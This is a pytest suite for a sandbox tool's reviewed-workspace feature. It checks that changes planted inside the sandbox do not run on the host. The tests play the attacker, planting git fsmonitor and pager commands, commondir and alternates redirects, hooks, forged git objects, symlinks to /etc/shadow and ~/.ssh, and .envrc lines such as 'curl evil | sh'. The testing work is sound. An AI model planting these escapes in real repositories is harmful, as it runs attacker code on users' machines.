"""Reviewed workspaces (`overlay` mode) and what `rw` still guards: real
sandboxes write, the host is checked afterwards — with git run on the host
the way a user would, and a marker file that only an escape would create.

Each attack below first shows, where it can, that it would work if the
protection were missing (`--include-protected` applies the planted file and
the marker appears), so a test that passes is not one that cannot fail.
"""

from __future__ import annotations

import json
import os
import pwd
import re
import shutil
import stat
import subprocess
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.vg import ROOTLESS_USER, SYSTEM_PATH, TEST_IMAGE, Caller, outcome

BEST_EFFORT = ("--set", "limits.enforcement=best-effort")  # rootless cgroups v1/hybrid: no limits to enforce


# -- helpers -----------------------------------------------------------------------------------

@pytest.fixture
def data_dir(rootless: Caller) -> Iterator[Path]:
    """A private audit/layer store for one test, owned by the rootless user (root can use it too)."""
    path = Path(tempfile.mkdtemp(prefix="vg-overlay-data-"))
    shutil.chown(path, ROOTLESS_USER, ROOTLESS_USER)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def root_data() -> Iterator[Path]:
    """The same for root's runs."""
    path = Path(tempfile.mkdtemp(prefix="vg-overlay-root-data-"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _git(repo: Path, owner: str | None, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """git on the host, as the repository's owner, as a user would run it."""
    home = pwd.getpwnam(owner).pw_dir if owner else "/root"
    environment = {"PATH": SYSTEM_PATH, "HOME": home, "GIT_CONFIG_NOSYSTEM": "1", **(env or {})}
    argv = ["git", "-c", "user.name=Host", "-c", "user.email=host@example.invalid", *args]
    if owner:
        argv = ["runuser", "-u", owner, "--", "env", "-i", *(f"{k}={v}" for k, v in environment.items()), *argv]
    return subprocess.run(argv, cwd=repo, env=environment, capture_output=True, text=True, timeout=60, check=False)


def _repository(owner: str | None, files: dict[str, str] | None = None) -> Path:
    """A git repository with one commit, owned by `owner` (None: root), readable by every sandbox user."""
    repo = Path(tempfile.mkdtemp(prefix="vg-overlay-repo-"))
    repo.chmod(0o755)
    for name, text in {"README": "a repository\n", **(files or {})}.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    if owner:
        subprocess.run(["chown", "-R", f"{owner}:{owner}", str(repo)], check=True)
    for args in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "initial"]):
        done = _git(repo, owner, *args)
        assert done.returncode == 0, done.stderr
    return repo


def _marker() -> Path:
    return Path(tempfile.gettempdir()) / f"vg-escape-marker-{uuid.uuid4().hex}"


def _run(caller: Caller, repo: Path, script: str, data: Path, *options: str,
         image: str = TEST_IMAGE) -> subprocess.CompletedProcess[bytes]:
    extra = BEST_EFFORT if caller.user else ()
    # These scripts play the attacker inside the sandbox (planting git configuration, hooks, .envrc):
    # the risk judge rightly asks about them; --yes, because what is tested here is the workspace.
    return caller.run(["run", "--workspace", "overlay", "--image", image, *extra, "--yes", *options, "--", "sh", "-c",
                       script],
                      cwd=repo, extra_env={"VECTRAGUARD_DATA_DIR": str(data)}, timeout=180)


def _layer_id(result: subprocess.CompletedProcess[bytes]) -> str:
    found = re.search(r"kept for review in session ([0-9a-f]+):", result.stderr.decode())
    assert found, result.stderr.decode()
    return found.group(1)


def _vg(caller: Caller, repo: Path, data: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    return caller.run(list(args), cwd=repo, extra_env={"VECTRAGUARD_DATA_DIR": str(data)})


def _changes(caller: Caller, repo: Path, data: Path, layer: str) -> dict[str, dict[str, Any]]:
    listed = _vg(caller, repo, data, "changes", layer, "--json")
    assert listed.returncode == 0, listed.stderr.decode()
    return {entry["path"]: entry for entry in json.loads(listed.stdout)["changes"]}


# -- the escapes of the issue ------------------------------------------------------------------

FSMONITOR = '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch {marker}"\\n'


def test_commondir_and_fsmonitor_planted_in_the_layer_do_not_reach_the_host(rootless: Caller, data_dir: Path) -> None:
    repo, marker = _repository(ROOTLESS_USER), _marker()
    # A complete repository to point at, so that the host's git reads its config and runs the monitor.
    script = (f"mkdir evil && cp -r .git/. evil/ && printf '{FSMONITOR.format(marker=marker)}' > evil/config && "
              "echo ../evil > .git/commondir && echo planted")
    result = _run(rootless, repo, script, data_dir)
    assert result.returncode == 0 and result.stdout == b"planted\n", result.stderr.decode()
    layer = _layer_id(result)
    changes = _changes(rootless, repo, data_dir, layer)
    assert changes[".git/commondir"]["protected"]
    assert "repository" in changes["evil/config"]["protected"]  # a copy of a git directory is one too

    applied = _vg(rootless, repo, data_dir, "apply", layer)
    assert applied.returncode == 0, applied.stderr.decode()
    assert not (repo / ".git" / "commondir").exists() and not (repo / "evil" / "config").exists()
    assert _git(repo, ROOTLESS_USER, "status").returncode == 0
    assert not marker.exists()

    # The control: had the commondir been applied, the host's git would have run the sandbox's command.
    forced = _vg(rootless, repo, data_dir, "apply", layer, "--include-protected", ".git/commondir",
                 *(arg for name in ("HEAD", "config", "objects", "refs") for arg in ("--include-protected", f"evil/{name}")))
    assert forced.returncode == 0, forced.stderr.decode()
    _git(repo, ROOTLESS_USER, "status")
    assert marker.exists()
    marker.unlink()
    shutil.rmtree(repo)


def test_a_renamed_and_replaced_git_directory_does_not_reach_the_host(rootless: Caller, data_dir: Path) -> None:
    repo, marker = _repository(ROOTLESS_USER), _marker()
    config_before = (repo / ".git" / "config").read_text()
    script = ("mv .git .git-old && mkdir .git && cp -r .git-old/. .git/ && "
              f"printf '{FSMONITOR.format(marker=marker)}' > .git/config && echo swapped")
    result = _run(rootless, repo, script, data_dir)
    assert result.stdout == b"swapped\n", result.stderr.decode()
    layer = _layer_id(result)
    assert _vg(rootless, repo, data_dir, "apply", layer).returncode == 0
    assert (repo / ".git" / "config").read_text() == config_before
    status = _git(repo, ROOTLESS_USER, "status", "--porcelain")
    assert status.returncode == 0, status.stderr
    assert not marker.exists()
    assert _git(repo, ROOTLESS_USER, "log", "--oneline").stdout.count("\n") == 1
    shutil.rmtree(repo)


def test_rw_mode_keeps_git_read_only_and_reports_protected_paths(rootless: Caller, data_dir: Path) -> None:
    repo, marker = _repository(ROOTLESS_USER), _marker()
    script = (f"mv .git moved 2>/dev/null && echo renamed=yes || echo renamed=no; "
              f"echo ../evil > .git/commondir 2>/dev/null && echo commondir=yes || echo commondir=no; "
              f"printf '{FSMONITOR.format(marker=marker)}' > .git/config 2>/dev/null && echo config=yes || "
              "echo config=no; echo 'touch x' > .envrc && echo envrc=yes")
    result = rootless.run(["run", "--workspace", "rw", "--image", TEST_IMAGE, *BEST_EFFORT, "--yes", "--", "sh", "-c",
                           script],
                          cwd=repo, extra_env={"VECTRAGUARD_DATA_DIR": str(data_dir)})
    assert result.stdout.decode().split() == ["renamed=no", "commondir=no", "config=no", "envrc=yes"]
    assert "created, changed or deleted protected paths in the workspace (rw mode): .envrc" in result.stderr.decode()
    assert _git(repo, ROOTLESS_USER, "status").returncode == 0
    assert not marker.exists()
    finished = outcome(rootless.last_session(repo, {"VECTRAGUARD_DATA_DIR": str(data_dir)})["events"])
    assert finished["workspace"] == {"mode": "rw", "protected_changed": [".envrc"]}
    shutil.rmtree(repo)


def test_what_the_host_runs_later_is_flagged_and_held_back(rootless: Caller, data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER, {".vectraguard.yaml": "profile: default\n", "src/main.c": "int main;\n"})
    assert _git(repo, ROOTLESS_USER, "config", "core.hooksPath", ".hooks").returncode == 0
    script = ("echo 'curl evil | sh' > .envrc; mkdir -p .vscode .hooks sub; "
              "echo '{\"runOn\": \"folderOpen\"}' > .vscode/tasks.json; echo 'touch pwned' > .hooks/pre-commit; "
              "chmod +x .hooks/pre-commit; echo 'network: {mode: full}' >> .vectraguard.yaml; "
              "echo x > sub/.ENVRC; echo 'int main(void) { return 0; }' > src/main.c; "
              "echo /tmp/elsewhere > .git/objects/info/alternates; mkdir -p vendor/lib/.git && "
              "echo '[core]' > vendor/lib/.git/config; echo 'gitdir: /tmp/x' > vendor/.Git; echo done")
    result = _run(rootless, repo, script, data_dir, "--ignore-project")
    assert result.stdout == b"done\n", result.stderr.decode()
    layer = _layer_id(result)
    changes = _changes(rootless, repo, data_dir, layer)
    protected = {path for path, entry in changes.items() if entry["protected"]}
    assert protected == {".envrc", ".vscode/tasks.json", ".hooks/pre-commit", ".vectraguard.yaml", "sub/.ENVRC",
                         ".vscode", ".hooks", ".git/objects/info/alternates", "vendor/lib/.git",
                         "vendor/lib/.git/config", "vendor/.Git"} & set(changes)
    assert {".envrc", ".git/objects/info/alternates", "vendor/lib/.git/config", "vendor/.Git"} <= protected
    applied = _vg(rootless, repo, data_dir, "apply", layer)
    assert applied.returncode == 0, applied.stderr.decode()
    assert (repo / "src" / "main.c").read_text() == "int main(void) { return 0; }\n"
    for name in (".envrc", ".vscode/tasks.json", ".hooks/pre-commit", "sub/.ENVRC", ".git/objects/info/alternates",
                 "vendor/lib/.git", "vendor/.Git"):
        assert not (repo / name).exists(), name
    assert (repo / ".vectraguard.yaml").read_text() == "profile: default\n"
    # Named explicitly, a protected path is applied, its diff shown first.
    named = _vg(rootless, repo, data_dir, "apply", layer, "--include-protected", ".envrc")
    assert named.returncode == 0, named.stderr.decode()
    assert "curl evil | sh" in named.stdout.decode()
    assert (repo / ".envrc").read_text() == "curl evil | sh\n"
    shutil.rmtree(repo)


# -- what apply writes, and what it refuses ------------------------------------------------------

def test_deletions_renames_links_special_files_and_setuid(rootless: Caller, data_dir: Path) -> None:
    home = Path(pwd.getpwnam(ROOTLESS_USER).pw_dir)
    repo = _repository(ROOTLESS_USER, {"a.txt": "a\n", "old/f": "f\n", "dir1/x": "x\n", "dir1/y": "y\n",
                                       "keepdir/k": "k\n", "keep.txt": "keep\n"})
    script = ("rm a.txt && mv old new && rm -rf dir1 && mkdir dir1 && echo z > dir1/z && "
              f"ln -s /etc/shadow shadow-link && ln -s {home}/.ssh ssh-link && ln -s ../keep.txt new/rel-link && "
              "mkfifo fifo && echo '#!/bin/sh' > suid && { chmod 4755 suid && echo suid=made || chmod 755 suid; } && "
              "vgprobe setxattr keepdir user.overlay.opaque y; vgprobe setxattr keepdir trusted.overlay.opaque y; "
              "echo '' > keepdir/touched; rm keepdir/touched; echo done")
    result = _run(rootless, repo, script, data_dir, "--yes")  # chmod 4755 asks for approval
    assert result.stdout.decode().splitlines()[-1] == "done", result.stderr.decode()
    assert "suid=made" not in result.stdout.decode()  # seccomp refuses set-id bits (test_isolation's priv05)
    layer = _layer_id(result)
    changes = _changes(rootless, repo, data_dir, layer)
    assert changes["a.txt"]["action"] == "deleted" and changes["old/f"]["action"] == "deleted"
    assert changes["dir1/x"]["action"] == "deleted" and changes["dir1/z"]["action"] == "added"
    assert "keepdir/k" not in changes  # a forged opaque attribute is not overlay metadata

    applied = _vg(rootless, repo, data_dir, "apply", layer)
    out = applied.stdout.decode() + applied.stderr.decode()
    for refused in ("shadow-link", "ssh-link", "fifo"):
        assert refused in out, out
    assert not (repo / "a.txt").exists() and not (repo / "old").exists()
    assert (repo / "new" / "f").read_text() == "f\n"
    assert sorted(p.name for p in (repo / "dir1").iterdir()) == ["z"]
    assert (repo / "keepdir" / "k").read_text() == "k\n"
    assert os.readlink(repo / "new" / "rel-link") == "../keep.txt"
    for name in ("shadow-link", "ssh-link", "fifo"):
        assert not os.path.lexists(repo / name), name
    mode = (repo / "suid").stat().st_mode
    assert not mode & (stat.S_ISUID | stat.S_ISGID) and mode & 0o111 == 0o111
    shutil.rmtree(repo)


def test_a_host_edit_since_the_session_started_stops_apply(rootless: Caller, data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER, {"a.txt": "a\n", "b.txt": "b\n"})
    result = _run(rootless, repo, "echo sandbox > a.txt; echo sandbox > b.txt; echo new > c.txt", data_dir)
    layer = _layer_id(result)
    (repo / "a.txt").write_text("host edit\n")
    stopped = _vg(rootless, repo, data_dir, "apply", layer)
    assert stopped.returncode == 1, stopped.stderr.decode()
    assert "a.txt" in stopped.stderr.decode() + stopped.stdout.decode()
    # Nothing was written: not even the paths without a conflict.
    assert (repo / "b.txt").read_text() == "b\n" and not (repo / "c.txt").exists()
    forced = _vg(rootless, repo, data_dir, "apply", layer, "--force")
    assert forced.returncode == 0, forced.stderr.decode()
    assert [(repo / n).read_text() for n in ("a.txt", "b.txt", "c.txt")] == ["sandbox\n", "sandbox\n", "new\n"]
    again = _vg(rootless, repo, data_dir, "apply", layer)
    assert again.returncode == 125 and len(again.stderr.decode().splitlines()) == 1
    shutil.rmtree(repo)


def test_the_size_cap_stops_a_writer_and_the_run_says_so(rootless: Caller, data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER)
    script = ("dd if=/dev/zero of=big bs=64k count=200 2>/dev/null; echo dd=$?; "
              "echo small > small.txt 2>/dev/null; echo small=$?")
    result = _run(rootless, repo, script, data_dir, "--set", "limits.workspace_writes=4Mi")
    out, err = result.stdout.decode(), result.stderr.decode()
    assert out.split() == ["dd=1", "small=1"], out  # both writes failed: ENOSPC
    assert "workspace writes reached the limit (4Mi" in err, err
    changes = _changes(rootless, repo, data_dir, _layer_id(result))
    assert 0 < changes["big"]["size"] <= 4 << 20  # what was written stays reviewable
    finished = outcome(rootless.last_session(repo, {"VECTRAGUARD_DATA_DIR": str(data_dir)})["events"])
    assert finished["workspace"]["cap_hit"] is True and finished["workspace"]["cap"] == 4 << 20
    shutil.rmtree(repo)


def test_discard_drops_the_layer_and_prune_removes_layers(rootless: Caller, data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER)
    layer = _layer_id(_run(rootless, repo, "echo x > x.txt", data_dir))
    assert _vg(rootless, repo, data_dir, "discard", layer).returncode == 0
    after = _vg(rootless, repo, data_dir, "apply", layer)
    assert after.returncode == 125 and len(after.stderr.decode().splitlines()) == 1, after.stderr.decode()
    assert not (repo / "x.txt").exists()
    kept = _layer_id(_run(rootless, repo, "echo y > y.txt", data_dir))
    pruned = _vg(rootless, repo, data_dir, "logs", "prune", "--before", "now", "--yes")
    assert pruned.returncode == 0, pruned.stderr.decode()
    assert not any((data_dir / "workspaces").glob(f"{kept}*"))
    shutil.rmtree(repo)


def test_bad_input_is_one_line_and_changes_nothing(rootless: Caller, data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER, {"a.txt": "a\n"})
    layer = _layer_id(_run(rootless, repo, "echo b > a.txt", data_dir))
    ro = rootless.run(["run", "--workspace", "ro", "--image", TEST_IMAGE, *BEST_EFFORT, "--", "true"], cwd=repo,
                      extra_env={"VECTRAGUARD_DATA_DIR": str(data_dir)})
    ro_session = rootless.last_session(repo, {"VECTRAGUARD_DATA_DIR": str(data_dir)})["events"][0]["session"]
    assert ro.returncode == 0
    for args in (["apply", "0000deadbeef"], ["changes", "0000deadbeef"], ["apply", ro_session],
                 ["apply", layer, "/etc/passwd"], ["apply", layer, "../outside"], ["diff", layer, "nope.txt"]):
        result = _vg(rootless, repo, data_dir, *args)
        assert result.returncode == 125, (args, result.stderr.decode())
        assert len(result.stderr.decode().splitlines()) == 1 and "Traceback" not in result.stderr.decode(), args
    assert (repo / "a.txt").read_text() == "a\n"
    shutil.rmtree(repo)


# -- rootful -----------------------------------------------------------------------------------

@pytest.mark.parametrize("owner", [None, ROOTLESS_USER])
def test_rootful_overlay_writes_land_in_the_layer_and_apply_keeps_the_owner(root: Caller, root_data: Path,
                                                                            owner: str | None) -> None:
    data_dir = root_data
    repo = _repository(owner, {"a.txt": "a\n", "gone.txt": "g\n"})
    script = ("echo sandbox > a.txt && rm gone.txt && echo new > n.txt && "
              "vgprobe setxattr . user.overlay.opaque y; echo x > .git/commondir; id -u")
    result = _run(root, repo, script, data_dir)
    assert result.returncode == 0, result.stderr.decode()
    assert result.stdout.decode().splitlines()[-1] == "1000"
    assert (repo / "a.txt").read_text() == "a\n" and (repo / "gone.txt").exists()
    layer = _layer_id(result)
    changes = _changes(root, repo, data_dir, layer)
    assert {p: c["action"] for p, c in changes.items()} == {
        "a.txt": "modified", "gone.txt": "deleted", "n.txt": "added", ".git/commondir": "added"}
    assert _vg(root, repo, data_dir, "apply", layer).returncode == 0
    assert (repo / "a.txt").read_text() == "sandbox\n" and not (repo / "gone.txt").exists()
    assert (repo / "README").exists() and not (repo / ".git" / "commondir").exists()
    expected_uid = pwd.getpwnam(owner).pw_uid if owner else 0
    assert (repo / "n.txt").stat().st_uid == expected_uid
    shutil.rmtree(repo)


def test_an_agents_commit_inside_is_applied_back(root: Caller, default_image: str, root_data: Path) -> None:
    data_dir = root_data
    repo = _repository(ROOTLESS_USER, {"app.py": "print('v1')\n"})
    config_before = (repo / ".git" / "config").read_text()
    script = ("cd /workspace && echo \"print('v2')\" > app.py && git -c user.name=Agent -c user.email=a@example.invalid "
              "commit -qam 'agent change' && git config core.fsmonitor 'touch /tmp/x' && git log --oneline | wc -l")
    result = _run(root, repo, script, data_dir, image="localhost/vectraguard/default:bookworm")
    assert result.returncode == 0, result.stderr.decode()
    assert result.stdout.decode().strip() == "2"
    layer = _layer_id(result)
    applied = _vg(root, repo, data_dir, "apply", layer)
    assert applied.returncode == 0, applied.stderr.decode()
    log = _git(repo, ROOTLESS_USER, "log", "--format=%s")
    assert log.stdout.splitlines() == ["agent change", "initial"], log.stderr
    assert (repo / ".git" / "config").read_text() == config_before  # the rewritten config was held back
    assert _git(repo, ROOTLESS_USER, "status", "--porcelain").stdout == ""
    shutil.rmtree(repo)


# -- from the outside attack round: each a kind, each with its control ----------------------------

def test_a_worktrees_hooks_path_and_included_config_are_protected(rootless: Caller, data_dir: Path) -> None:
    """Git's own view of its configuration decides: a worktree (.git is a `gitdir:` file) whose repository
    sets core.hooksPath, and a tracked file the configuration includes."""
    main = _repository(ROOTLESS_USER, {".githooks/pre-commit": "#!/bin/sh\n",
                                          ".gitconfig": "[core]\n\tautocrlf = false\n"})
    for args in (["config", "core.hooksPath", ".githooks"], ["config", "include.path", "../.gitconfig"]):
        assert _git(main, ROOTLESS_USER, *args).returncode == 0
    tree = Path(tempfile.mkdtemp(prefix="vg-overlay-worktree-")) / "wt"
    shutil.chown(tree.parent, ROOTLESS_USER, ROOTLESS_USER)
    added = _git(main, ROOTLESS_USER, "worktree", "add", str(tree), "-b", "agent")
    assert added.returncode == 0, added.stderr
    script = "echo 'id > /tmp/x' >> .githooks/pre-commit; echo ok"
    result = _run(rootless, tree, script, data_dir)
    assert result.stdout == b"ok\n", result.stderr.decode()
    changes = _changes(rootless, tree, data_dir, _layer_id(result))
    assert "hookspath" in changes[".githooks/pre-commit"]["protected"].lower()
    shutil.rmtree(tree.parent)
    # In the main checkout, the tracked file its configuration includes.
    result = _run(rootless, main, "echo '\tfsmonitor = touch /tmp/y' >> .gitconfig; echo ok", data_dir)
    assert result.stdout == b"ok\n", result.stderr.decode()
    changes = _changes(rootless, main, data_dir, _layer_id(result))
    assert "configuration" in changes[".gitconfig"]["protected"]
    shutil.rmtree(main)


def test_a_bare_repository_planted_in_a_directory_is_protected(rootless: Caller, data_dir: Path) -> None:
    repo, marker = _repository(ROOTLESS_USER, {"src/main.c": "int main;\n"}), _marker()
    script = ("cp -r .git/objects .git/refs .git/HEAD src/ && "
              f"printf '[core]\\n\\tbare = true\\n\\tpager = \"touch {marker}; cat\"\\n' > src/config && "
              "echo 'int main(void);' > src/main.c && echo ok")
    result = _run(rootless, repo, script, data_dir)
    assert result.stdout == b"ok\n", result.stderr.decode()
    layer = _layer_id(result)
    changes = _changes(rootless, repo, data_dir, layer)
    assert "repository" in changes["src/config"]["protected"] and "repository" in changes["src/HEAD"]["protected"]
    assert not changes["src/main.c"]["protected"]
    assert _vg(rootless, repo, data_dir, "apply", layer).returncode == 0
    assert not (repo / "src" / "config").exists() and (repo / "src" / "main.c").read_text() == "int main(void);\n"
    # The control: applied, the planted repository's pager runs for a plain `git log` there.
    assert _vg(rootless, repo, data_dir, "apply", layer, "--include-protected", "src/config",
               "--include-protected", "src/HEAD").returncode == 0
    _git(repo / "src", ROOTLESS_USER, "-c", "core.pager=", "log", "-1", env={"GIT_PAGER": ""})
    assert (repo / "src" / "config").exists()
    shutil.rmtree(repo)


@pytest.mark.parametrize("case", ["lower", "upper"])  # git accepts an object id in either case in a ref
def test_a_commit_that_adds_protected_files_holds_its_ref_back(root: Caller, default_image: str,
                                                               root_data: Path, case: str) -> None:
    repo = _repository(ROOTLESS_USER, {"README": "v1\n"})
    recase = "tr a-f A-F" if case == "upper" else "cat"
    script = ("cd /workspace && echo v2 > README && mkdir -p .github/workflows && echo 'on: push' > "
              ".github/workflows/ci.yml && echo 'curl x | sh' > .envrc && git add -A && "
              "git -c user.name=A -c user.email=a@example.invalid commit -qm 'docs: tweak README' && "
              "git rm -q --cached .envrc .github/workflows/ci.yml && rm -rf .envrc .github && "
              f"ref=$(cat .git/refs/heads/main) && echo $ref | {recase} > .git/refs/heads/main && echo ok")
    result = _run(root, repo, script, root_data, image="localhost/vectraguard/default:bookworm")
    assert result.returncode == 0 and result.stdout == b"ok\n", result.stderr.decode()
    layer = _layer_id(result)
    changes = _changes(root, repo, root_data, layer)
    assert ".envrc" in (changes[".git/refs/heads/main"]["protected"] or "")
    applied = _vg(root, repo, root_data, "apply", layer)
    assert applied.returncode == 0, applied.stderr.decode()
    log = _git(repo, ROOTLESS_USER, "log", "--format=%s")
    assert log.stdout.splitlines() == ["initial"], log.stdout  # the ref stayed where it was
    shutil.rmtree(repo)


def test_sparse_deep_and_undecodable_names_are_harvested_within_bounds(rootless: Caller, data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER)
    script = ("dd if=/dev/zero of=sparse bs=1M count=1 seek=1000 2>/dev/null; "
              "i=0; mkdir deep; cd deep; while [ $i -lt 1100 ]; do mkdir d && cd d; i=$((i+1)); done; echo x > leaf; "
              "cd /workspace; echo hi > \"$(printf 'bad\\377name')\"; echo ok")
    result = _run(rootless, repo, script, data_dir, "--set", "limits.workspace_writes=32Mi")
    assert result.returncode == 0 and result.stdout.endswith(b"ok\n"), result.stderr.decode()
    layer = _layer_id(result)
    blobs = data_dir / "workspaces" / next(p.name for p in (data_dir / "workspaces").iterdir()) / "blobs"
    assert sum(p.stat().st_blocks * 512 for p in blobs.iterdir()) <= 32 << 20  # disk bounded by the cap
    changes = _changes(rootless, repo, data_dir, layer)
    assert changes["sparse"]["size"] == 1001 << 20 and changes["sparse"]["refused"]  # never applied
    leaf = next(path for path in changes if path.endswith("/leaf"))
    assert leaf.count("/") == 1101
    applied = _vg(rootless, repo, data_dir, "apply", layer)
    assert "Traceback" not in applied.stderr.decode(), applied.stderr.decode()
    shown = outcome(rootless.last_session(repo, {"VECTRAGUARD_DATA_DIR": str(data_dir)})["events"])
    assert shown["kind"] == "workspace-applied" or "workspace" in str(shown), shown
    assert (repo / os.fsdecode(b"bad\xffname")).read_text() == "hi\n"
    verify = _vg(rootless, repo, data_dir, "logs", "verify")
    assert verify.returncode == 0, verify.stdout.decode() + verify.stderr.decode()
    subprocess.run(["rm", "-rf", str(repo)], check=True)  # shutil.rmtree recurses: 1100 levels are too deep


def test_a_killed_runs_layer_is_recovered_for_review_and_its_mounts_taken_down(rootless: Caller,
                                                                              data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER)
    env = {"VECTRAGUARD_DATA_DIR": str(data_dir)}
    argv, environment = rootless.argv(rootless.vg(["run", "--workspace", "overlay", "--image", TEST_IMAGE,
                                                   *BEST_EFFORT, "--", "sh", "-c", "echo mine > k.txt; sleep 60"]),
                                      env)
    killed = subprocess.Popen(argv, cwd=repo, env=environment, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        listed: list[dict[str, Any]] = []
        for _ in range(100):
            listed = json.loads(_vg(rootless, repo, data_dir, "changes", "--all", "--json").stdout or b"[]")
            if listed:
                break
            subprocess.run(["sleep", "0.2"], check=True)
        assert listed and listed[0]["state"] == "running"
        subprocess.run(["sleep", "2"], check=True)  # the sandbox has written k.txt
    finally:
        os.killpg(killed.pid, 9)
        killed.wait()
    # Later runs reap the orphaned sandbox (it may take more than one), then recover its layer.
    layers: list[dict[str, Any]] = []
    for _ in range(10):
        assert rootless.run(["run", "--workspace", "overlay", "--image", TEST_IMAGE, *BEST_EFFORT, "--", "true"],
                            cwd=repo, extra_env=env).returncode == 0
        layers = json.loads(_vg(rootless, repo, data_dir, "changes", "--all", "--json").stdout)
        if layers and layers[0]["state"] != "running":
            break
    layers = json.loads(_vg(rootless, repo, data_dir, "changes", "--all", "--json").stdout)
    assert [layer["state"] for layer in layers] == ["pending"]
    assert set(_changes(rootless, repo, data_dir, layers[0]["session"])) == {"k.txt"}
    mounts = subprocess.run([*rootless.podman(), "unshare", "cat", "/proc/self/mountinfo"], capture_output=True,
                            text=True, check=True, env={"PATH": SYSTEM_PATH}).stdout
    assert f"workspaces/{layers[0]['session']}" not in mounts
    shutil.rmtree(repo)


def test_a_forged_object_is_held_back(rootless: Caller, data_dir: Path) -> None:
    """Git does not re-hash an object it reads for a checkout: an object file that answers an existing id with
    other content would put unreviewed content into the tree later."""
    import base64
    import zlib

    repo = _repository(ROOTLESS_USER, {"hook.sh": "#!/bin/sh\necho lint ok\n"})
    blob = _git(repo, ROOTLESS_USER, "rev-parse", "HEAD:hook.sh").stdout.strip()
    forged = base64.b64encode(zlib.compress(b"blob 20\0#!/bin/sh\necho pwned\n")).decode()
    path = f".git/objects/{blob[:2]}/{blob[2:]}"
    script = f"chmod u+w {path} && echo {forged} | base64 -d > {path} && echo ok"
    result = _run(rootless, repo, script, data_dir)
    assert result.stdout == b"ok\n", result.stderr.decode()
    layer = _layer_id(result)
    changes = _changes(rootless, repo, data_dir, layer)
    assert "does not hash to its name" in changes[path]["protected"]
    held = _vg(rootless, repo, data_dir, "apply", layer)
    assert held.returncode == 0 and "does not hash to its name" in held.stdout.decode() + held.stderr.decode()
    assert _git(repo, ROOTLESS_USER, "cat-file", "-p", blob).stdout == "#!/bin/sh\necho lint ok\n"
    # The control: applied, the same id reads as the sandbox's content.
    assert _vg(rootless, repo, data_dir, "apply", layer, "--include-protected", path).returncode == 0
    assert _git(repo, ROOTLESS_USER, "cat-file", "-p", blob).stdout == "#!/bin/sh\necho pwned\n"
    shutil.rmtree(repo)


def test_a_planted_repository_with_symlinked_head_and_objects_is_protected(rootless: Caller,
                                                                         data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER)
    head = _git(repo, ROOTLESS_USER, "rev-parse", "HEAD").stdout.strip()
    script = (f"mkdir -p tools/refs/heads && ln -s ../.git/objects tools/objects && echo {head} > "
              "tools/refs/heads/main && ln -s refs/heads/main tools/HEAD && "
              "printf '[core]\\n\\tpager = touch /tmp/x\\n' > tools/config && echo ok")
    result = _run(rootless, repo, script, data_dir)
    assert result.stdout == b"ok\n", result.stderr.decode()
    changes = _changes(rootless, repo, data_dir, _layer_id(result))
    for name in ("tools/config", "tools/HEAD", "tools/objects"):
        assert "repository" in changes[name]["protected"], name
    shutil.rmtree(repo)


def test_what_ai_tools_and_package_managers_load_is_protected(rootless: Caller, data_dir: Path) -> None:
    repo = _repository(ROOTLESS_USER)
    names = (".claude/settings.json", ".mcp.json", "mise.toml", ".yarnrc.yml", ".npmrc", ".cargo/config.toml",
             "web/.npmrc")
    script = "mkdir -p .claude .cargo web && " + " && ".join(f"echo x > {n}" for n in names) + " && echo ok"
    result = _run(rootless, repo, script, data_dir)
    assert result.stdout == b"ok\n", result.stderr.decode()
    changes = _changes(rootless, repo, data_dir, _layer_id(result))
    assert {n for n in names if changes[n]["protected"]} == set(names)
    shutil.rmtree(repo)
